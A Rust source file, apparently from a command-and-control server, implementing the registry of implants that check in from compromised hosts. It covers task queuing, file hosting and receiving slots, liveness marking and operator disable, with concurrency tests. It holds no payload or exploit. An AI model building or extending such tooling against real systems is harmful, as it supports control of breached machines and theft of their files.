//! Process-wide implant registry.
//!
//! Lookup goes through a sharded map; each record sits behind its own mutex
//! so the request handlers and the admin plane serialize per implant, never
//! globally. Guards must not be held across `.await`: callers snapshot what
//! they need under the lock, do their I/O, then re-acquire for the terminal
//! update.

use std::path::PathBuf;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use dashmap::DashMap;

use crate::models::ImplantRecord;

/// Lock a record, recovering from poisoning (a panicking handler must not
/// wedge the implant forever).
pub fn lock_record(record: &Mutex<ImplantRecord>) -> MutexGuard<'_, ImplantRecord> {
    record.lock().unwrap_or_else(PoisonError::into_inner)
}

pub struct ImplantRegistry {
    implants: DashMap<String, Arc<Mutex<ImplantRecord>>>,
    /// Insertion order, for operator display only.
    order: Mutex<Vec<String>>,
    selected: Mutex<Option<String>>,
}

impl ImplantRegistry {
    #[must_use]
    pub fn new() -> Self {
        Self {
            implants: DashMap::new(),
            order: Mutex::new(Vec::new()),
            selected: Mutex::new(None),
        }
    }

    /// Insert a freshly created record. Ids are server-generated, so
    /// collisions do not occur.
    pub fn add(&self, record: ImplantRecord) -> Arc<Mutex<ImplantRecord>> {
        let id = record.id.clone();
        let handle = Arc::new(Mutex::new(record));
        self.implants.insert(id.clone(), handle.clone());
        self.order
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push(id);
        handle
    }

    #[must_use]
    pub fn get(&self, id: &str) -> Option<Arc<Mutex<ImplantRecord>>> {
        self.implants.get(id).map(|entry| entry.value().clone())
    }

    /// Implant ids in insertion order.
    #[must_use]
    pub fn ids(&self) -> Vec<String> {
        self.order
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    /// Mark an implant as the operator's current one. No protocol effect.
    pub fn select(&self, id: &str) {
        if self.implants.contains_key(id) {
            *self.selected.lock().unwrap_or_else(PoisonError::into_inner) = Some(id.to_string());
        }
    }

    #[must_use]
    pub fn selected(&self) -> Option<String> {
        self.selected
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone()
    }

    /// Select `id` if nothing is selected yet. Used on first activation.
    pub fn select_if_none(&self, id: &str) {
        let mut selected = self.selected.lock().unwrap_or_else(PoisonError::into_inner);
        if selected.is_none() && self.implants.contains_key(id) {
            *selected = Some(id.to_string());
        }
    }

    /// True when any implant is active (late ones included).
    #[must_use]
    pub fn has_active(&self) -> bool {
        let handles: Vec<_> = self
            .implants
            .iter()
            .map(|entry| entry.value().clone())
            .collect();
        handles
            .iter()
            .any(|handle| lock_record(handle).is_active())
    }

    // Admin-plane seam. These take the same per-record lock as the request
    // handlers, which is what makes the queue and slot contracts hold.

    /// Append a task envelope to an implant's FIFO queue.
    pub fn enqueue_task(&self, id: &str, envelope: String) -> bool {
        match self.get(id) {
            Some(handle) => {
                lock_record(&handle).queue_task(envelope);
                true
            }
            None => false,
        }
    }

    /// Arm the single-shot hosted-file slot.
    pub fn host_file(&self, id: &str, path: PathBuf) -> bool {
        match self.get(id) {
            Some(handle) => {
                lock_record(&handle).host_file(path);
                true
            }
            None => false,
        }
    }

    /// Arm the single-shot receiving-file slot.
    pub fn receive_file(&self, id: &str, destination: PathBuf) -> bool {
        match self.get(id) {
            Some(handle) => {
                lock_record(&handle).receive_file(destination);
                true
            }
            None => false,
        }
    }

    /// Liveness monitor verdict; cleared again by any authenticated poll.
    pub fn mark_late(&self, id: &str) -> bool {
        match self.get(id) {
            Some(handle) => {
                lock_record(&handle).late = true;
                true
            }
            None => false,
        }
    }

    /// Operator disable. The implant only ever gets 410 on reconnect after
    /// this.
    pub fn disable(&self, id: &str) -> bool {
        match self.get(id) {
            Some(handle) => {
                lock_record(&handle).disable();
                true
            }
            None => false,
        }
    }
}

impl Default for ImplantRegistry {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::ActivationInfo;

    fn activation() -> ActivationInfo {
        ActivationInfo {
            ip_internal: "10.0.0.5".into(),
            username: "u".into(),
            hostname: "h".into(),
            os_build: "W10".into(),
            pid: 1,
            process_name: "a.exe".into(),
            risky_mode: false,
        }
    }

    fn add_record(registry: &ImplantRegistry) -> String {
        let record = ImplantRecord::new();
        let id = record.id.clone();
        registry.add(record);
        id
    }

    #[test]
    fn test_add_and_get() {
        let registry = ImplantRegistry::new();
        let id = add_record(&registry);

        assert!(registry.get(&id).is_some());
        assert!(registry.get("missing1").is_none());
    }

    #[test]
    fn test_insertion_order_is_preserved() {
        let registry = ImplantRegistry::new();
        let a = add_record(&registry);
        let b = add_record(&registry);
        let c = add_record(&registry);

        assert_eq!(registry.ids(), vec![a, b, c]);
    }

    #[test]
    fn test_select_requires_known_id() {
        let registry = ImplantRegistry::new();
        let id = add_record(&registry);

        registry.select("missing1");
        assert_eq!(registry.selected(), None);

        registry.select(&id);
        assert_eq!(registry.selected(), Some(id));
    }

    #[test]
    fn test_select_if_none_only_fires_once() {
        let registry = ImplantRegistry::new();
        let a = add_record(&registry);
        let b = add_record(&registry);

        registry.select_if_none(&a);
        registry.select_if_none(&b);
        assert_eq!(registry.selected(), Some(a));
    }

    #[test]
    fn test_has_active_tracks_lifecycle() {
        let registry = ImplantRegistry::new();
        let id = add_record(&registry);
        assert!(!registry.has_active());

        let handle = registry.get(&id).unwrap();
        lock_record(&handle).activate("203.0.113.7".into(), activation());
        assert!(registry.has_active());

        // Late implants still count as active.
        registry.mark_late(&id);
        assert!(registry.has_active());

        registry.disable(&id);
        assert!(!registry.has_active());
    }

    #[test]
    fn test_admin_seam_rejects_unknown_ids() {
        let registry = ImplantRegistry::new();
        assert!(!registry.enqueue_task("missing1", "{}".into()));
        assert!(!registry.host_file("missing1", PathBuf::from("/tmp/x")));
        assert!(!registry.receive_file("missing1", PathBuf::from("/tmp/x")));
        assert!(!registry.mark_late("missing1"));
        assert!(!registry.disable("missing1"));
    }

    #[test]
    fn test_concurrent_enqueue_and_drain_delivers_exactly_once_in_order() {
        let registry = Arc::new(ImplantRegistry::new());
        let id = add_record(&registry);

        let producer = {
            let registry = registry.clone();
            let id = id.clone();
            std::thread::spawn(move || {
                for n in 0..200u32 {
                    assert!(registry.enqueue_task(&id, n.to_string()));
                }
            })
        };

        let mut delivered = Vec::new();
        let handle = registry.get(&id).unwrap();
        while delivered.len() < 200 {
            if let Some(task) = lock_record(&handle).next_task() {
                delivered.push(task.parse::<u32>().unwrap());
            }
        }
        producer.join().unwrap();

        assert_eq!(delivered, (0..200).collect::<Vec<_>>());
        assert!(lock_record(&handle).next_task().is_none());
    }
}
